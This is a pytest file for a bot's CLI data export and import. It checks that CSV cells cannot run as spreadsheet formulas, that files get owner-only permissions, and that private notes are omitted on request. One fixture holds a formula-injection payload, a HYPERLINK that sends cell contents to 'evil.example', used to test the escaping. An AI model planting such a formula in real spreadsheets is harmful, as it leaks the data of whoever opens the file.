"""`goodwill export`: no cell a spreadsheet would run, files only their owner can read, private notes left out
on request — and `goodwill import` still reads the export back exactly."""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import date

import pytest
from sqlalchemy import select

from bot.cli import main
from bot.importing import ImportReport, read_rows
from storage.models import Relation
from tests.support.running import BOT_TOKEN
from tests.support.seed import build_known_network
from tests.support.slack_standin import TEAM_ID
from tests.support.stored import network_of

TODAY = date(2026, 11, 26)
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
# Notes that start the way formulas do, or with the quote that marks text, and must come back as they were.
TRICKY = {
    "Jan de Vries": FORMULA,
    "Piet de Vries": "'quoted' by Piet",
    "Karin Mulder": "-5",  # reads as a negative number: still text, and still "-5" after the round trip
}


@pytest.fixture
def cli_env(db, slack, monkeypatch, tmp_path):
    monkeypatch.chdir(tmp_path)  # no stray .env
    monkeypatch.setenv("DATABASE_URL", db.url)
    monkeypatch.setenv("SLACK_BOT_TOKEN", BOT_TOKEN)
    monkeypatch.setenv("SLACK_API_URL", slack.api_url)
    return tmp_path


def cells(path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def mode(path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


@pytest.fixture
def tricky_network(db, slack):
    build_known_network(db.sessions, slack)
    with db.sessions() as session, session.begin():
        for relation in session.scalars(select(Relation)):
            relation.notes = TRICKY.get(relation.name, "")
            if relation.organisation == "Rode Kruis":
                relation.organisation, relation.notes = "@Rode Kruis", "+31 6 1234 5678\t=1+1"


def test_no_cell_of_the_csv_export_is_a_formula_and_import_reads_it_back_exactly(cli_env, db, tricky_network, capsys):
    assert main(["export", "--format", "csv", "--team", TEAM_ID, "-o", str(cli_env / "gw-")]) == 0

    relations = cells(cli_env / "gw-relations.csv")
    jan = next(row for row in relations if row["name"] == "Jan de Vries")
    assert jan["notes"] == "'" + FORMULA
    written = [cell for row in relations + cells(cli_env / "gw-interactions.csv") for cell in row.values()]
    assert not [cell for cell in written if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'-5" in written and "''quoted' by Piet" in written and "'@Rode Kruis" in written

    before = network_of(db, TEAM_ID)
    assert main(["import", str(cli_env / "gw-relations.csv"), "--team", "T0FRESH"]) == 0
    assert "created 4, updated 0" in capsys.readouterr().out
    after = network_of(db, "T0FRESH")
    assert after == before
    notes = {(r["name"], r["organisation"]): r["notes"] for r in after}
    assert notes[("Jan de Vries", "Gemeente Den Haag")] == FORMULA
    assert notes[("Piet de Vries", "Woonbond")] == "'quoted' by Piet"
    assert notes[("Karin Mulder", "Gemeente Den Haag")] == "-5"
    assert notes[("Karin Mulder", "@Rode Kruis")] == "+31 6 1234 5678\t=1+1"


def test_a_spreadsheet_of_our_own_keeps_its_quotes_on_import():
    """Only our export's quotes are taken off: another file's note that starts with one is kept as written."""
    report = ImportReport()
    [row] = read_rows(b"Naam;Notities\nJan de Vries;'t Hooft belde\n", TODAY, report)
    assert row.notes == "'t Hooft belde"


@pytest.mark.parametrize("form", ["csv", "json"])
def test_export_files_are_readable_by_their_owner_alone_even_over_an_open_file(cli_env, db, slack, form):
    build_known_network(db.sessions, slack)
    target = cli_env / ("gw-relations.csv" if form == "csv" else "network.json")
    target.write_text("an older, world-readable export")
    os.chmod(target, 0o644)
    previous = os.umask(0o022)
    try:
        output = cli_env / ("gw-" if form == "csv" else "network.json")
        assert main(["export", "--format", form, "--team", TEAM_ID, "-o", str(output)]) == 0
    finally:
        os.umask(previous)
    written = [cli_env / "gw-relations.csv", cli_env / "gw-interactions.csv"] if form == "csv" else [target]
    assert [mode(path) for path in written] == [0o600] * len(written)
    assert "Jan de Vries" in target.read_text(encoding="utf-8-sig")
    assert not [p.name for p in cli_env.iterdir() if p.name.endswith(".tmp")]  # no half-written files left


def test_without_private_leaves_out_private_notes_gives_and_takes(cli_env, db, slack, capsys):
    build_known_network(db.sessions, slack)  # Bram's call with Jan is private: "gaat verhuizen", got "een tip"

    assert main(["export", "--team", TEAM_ID]) == 0
    everything = json.loads(capsys.readouterr().out)
    [private] = [i for i in everything["interactions"] if i["private"]]
    assert (private["notes"], private["got"]) == ("persoonlijk: gaat verhuizen naar Delft", "een tip")

    assert main(["export", "--team", TEAM_ID, "--without-private"]) == 0
    without = json.loads(capsys.readouterr().out)
    [private] = [i for i in without["interactions"] if i["private"]]
    assert (private["notes"], private["gave"], private["got"]) == ("", None, None)
    assert (private["occurred_on"], private["logged_by"]) == ("2026-10-27", "U0BRAM")  # that it happened stays
    assert len(without["interactions"]) == len(everything["interactions"]) == 4
    assert [i for i in without["interactions"] if not i["private"]] == [
        i for i in everything["interactions"] if not i["private"]
    ]

    assert main(["export", "--format", "csv", "--team", TEAM_ID, "--without-private", "-o", str(cli_env)]) == 0
    exported = (cli_env / "goodwill-interactions.csv").read_text(encoding="utf-8-sig")
    assert "verhuizen" not in exported and "een tip" not in exported and "koffie over huisvesting" in exported


def test_an_export_that_cannot_be_written_is_one_line(cli_env, db, slack, capsys):
    build_known_network(db.sessions, slack)
    assert main(["export", "--team", TEAM_ID, "-o", str(cli_env / "no-such-dir" / "x.json")]) == 2
    error = capsys.readouterr().err
    assert error.startswith("goodwill: cannot write the export: No such file or directory") and error.count("\n") == 1
